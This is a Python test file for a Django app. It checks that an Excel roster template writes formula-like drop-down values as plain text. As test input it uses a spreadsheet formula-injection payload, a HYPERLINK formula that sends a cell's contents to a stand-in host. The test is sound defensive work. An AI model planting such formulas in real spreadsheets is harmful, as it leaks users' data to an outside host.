import io

from django.urls import reverse
from openpyxl import load_workbook

from casspath.core.models import User
from casspath.org.models import Position


def test_it_writes_formula_like_drop_down_values_as_plain_text(world, client):
    hostile = '=HYPERLINK("http://x/?"&E2,"y")'
    Position.objects.filter(code="team_lead").update(name=hostile)
    client.force_login(User.objects.get(username="padmin"))
    response = client.get(reverse("imports:template", args=["roster"]))
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    listed = [cell for cell in cells if cell.value == hostile]
    assert listed and {cell.data_type for cell in listed} == {"s"}
    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
